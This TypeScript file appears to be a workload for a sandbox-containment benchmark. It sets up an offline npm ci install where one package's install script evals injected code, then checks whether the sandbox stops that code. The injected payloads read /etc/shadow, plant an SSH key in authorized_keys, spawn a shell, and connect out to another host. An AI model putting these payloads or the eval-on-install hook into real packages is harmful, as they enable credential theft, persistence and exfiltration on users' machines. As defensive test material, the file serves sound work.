// SPDX-License-Identifier: Apache-2.0
// npm ci, offline: a locked project of six packages from a local cache, one of which builds itself when it is installed.
import { createHash } from "node:crypto";
import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { emptyKeys, COMMON_ATTACKS, keyHarm, reachedListener } from "./lib/attacks.ts";
import type { Attack, FreshRun, Site, Workload } from "./lib/workload.ts";

const SCRIPT: string = join(import.meta.dirname, "npm/work.sh");
const MODULES: string = resolve(import.meta.dirname, "../../node_modules");
/** Packages of this repository, which are there when a bench runs. */
const BORROWED = ["commander", "picocolors", "canonicalize", "fast-check", "pure-rand"];
const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIbyTheScript script";

/** Builds itself; what it evaluates is what somebody has put into a package of that name. */
const BUILT: Readonly<Record<string, string>> = {
  "package.json": JSON.stringify({
    name: "builds-itself",
    version: "1.0.0",
    main: "built.js",
    scripts: { install: "node build.js" },
  }),
  "build.js":
    'const { writeFileSync } = require("node:fs");\n' +
    "// the place of injection\n" +
    'if (process.env.HOSTILE) eval(process.env.HOSTILE);\nwriteFileSync("built.js", "module.exports = 42;\\n");\n',
};
const CHECK =
  'const assert = require("node:assert");\nassert.equal(require("builds-itself"), 42);\n' +
  'assert.equal(typeof require("commander").Command, "function");\nconsole.log("works");\n';

function prepare(site: Site): void {
  const packages = join(site.folder, "packages");
  const cache = join(site.folder, "cache");
  const env = { npm_config_cache: cache, npm_config_update_notifier: "false" };
  for (const name of BORROWED)
    cpSync(join(MODULES, name), join(packages, name), { recursive: true });
  const own = join(packages, "builds-itself");
  mkdirSync(own, { recursive: true });
  for (const [name, text] of Object.entries(BUILT)) writeFileSync(join(own, name), text);
  const locked = [...BORROWED, "builds-itself"].map((name) => {
    const from = join(packages, name);
    const words = ["npm", "pack", "--silent", "--ignore-scripts", from];
    const archive = join(site.folder, site.make(words, { env }).trim());
    site.make(["npm", "cache", "add", archive], { env });
    return [`node_modules/${name}`, lockOf(from, archive)] as const;
  });
  const versions = locked.map(([path, { version }]) => [
    path.slice("node_modules/".length),
    version,
  ]);
  const root = { name: "project", version: "1.0.0", dependencies: Object.fromEntries(versions) };
  const manifest = {
    ...root,
    private: true,
    scripts: { test: "node check.js" },
    allowScripts: { "builds-itself": true },
  };
  const lock = {
    name: root.name,
    version: root.version,
    lockfileVersion: 3,
    requires: true,
    packages: Object.fromEntries([["", root] as const, ...locked]),
  };
  const project = join(site.folder, "project");
  mkdirSync(project);
  writeFileSync(join(project, "package.json"), `${JSON.stringify(manifest, null, 2)}\n`);
  writeFileSync(join(project, "package-lock.json"), `${JSON.stringify(lock, null, 2)}\n`);
  writeFileSync(join(project, "check.js"), CHECK);
}

interface Locked {
  readonly version: string;
  readonly resolved: string;
  readonly integrity: string;
}

function lockOf(folder: string, archive: string): Locked {
  const manifest = JSON.parse(readFileSync(join(folder, "package.json"), "utf8")) as {
    name: string;
    version: string;
    scripts?: Readonly<Record<string, string>>;
    dependencies?: Readonly<Record<string, string>>;
    bin?: Readonly<Record<string, string>>;
  };
  const { name, version, scripts, dependencies, bin } = manifest;
  const digest = createHash("sha512").update(readFileSync(archive)).digest("base64");
  return {
    version,
    resolved: `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`,
    integrity: `sha512-${digest}`,
    ...(dependencies === undefined ? {} : { dependencies }),
    ...(bin === undefined ? {} : { bin }),
    ...(scripts?.["install"] === undefined ? {} : { hasInstallScript: true }),
  };
}

/** What the package runs when it is installed. */
function hostile(code: string): string {
  return `export HOSTILE='${code.replaceAll("'", "'\\''")}'`;
}

const SHADOW: Attack = {
  name: "a package reads /etc/shadow when it is installed",
  inject: () => hostile(`console.log(require("node:fs").readFileSync("/etc/shadow", "utf8"))`),
  harm: (_run, { secret }, { stdout, stderr }) =>
    (stdout + stderr).includes(secret) ? "the package has shown the secret" : undefined,
};
const KEYS: Attack = {
  name: "a package writes ~/.ssh/authorized_keys",
  arrange: emptyKeys,
  inject: () =>
    hostile(
      `require("node:fs").appendFileSync(process.env.HOME + "/.ssh/authorized_keys", "${KEY}\\n")`,
    ),
  harm: (run: FreshRun) => keyHarm(run, KEY),
};
const SHELL: Attack = {
  name: "a package runs a shell",
  inject: () =>
    hostile(
      `require("node:child_process").spawnSync("/bin/sh", ["-c", "cat /etc/shadow"], { stdio: "inherit" })`,
    ),
  harm: (_run, { secret }, { stdout, stderr }) =>
    (stdout + stderr).includes(secret) ? "the shell has shown the secret" : undefined,
};
const HOST: Attack = {
  name: "a package sends what it found to a new host",
  inject: (_run, { port, otherHost }) =>
    hostile(
      `const socket = require("node:net").connect(${port}, "${otherHost}", () => socket.end("HARM")); socket.on("error", () => undefined)`,
    ),
  harm: reachedListener,
};

export const npm: Workload = {
  name: "npm",
  label: "npm ci of a locked project, offline",
  needs: ["/usr/bin/npm", "/usr/bin/node", join(MODULES, "fast-check/package.json")],
  prepare,
  command: (run) => {
    run.copy("project");
    run.copy("cache");
    cpSync(SCRIPT, join(run.folder, "work.sh"));
    const settings = {
      npm_config_cache: join(run.folder, "cache"),
      npm_config_update_notifier: "false",
    };
    const env = { HEALTH: run.site.health, INJECT: run.inject, ...settings };
    return { argv: ["/bin/bash", "work.sh"], env };
  },
  check: (run, { status, stdout }) => {
    if (status !== 0) return `status ${status}`;
    if (!/^works$/m.test(stdout)) return "what was installed does not work";
    return existsSync(join(run.folder, "project/node_modules/.package-lock.json"))
      ? undefined
      : "nothing was installed";
  },
  attacks: [...COMMON_ATTACKS, SHADOW, KEYS, SHELL, HOST],
};
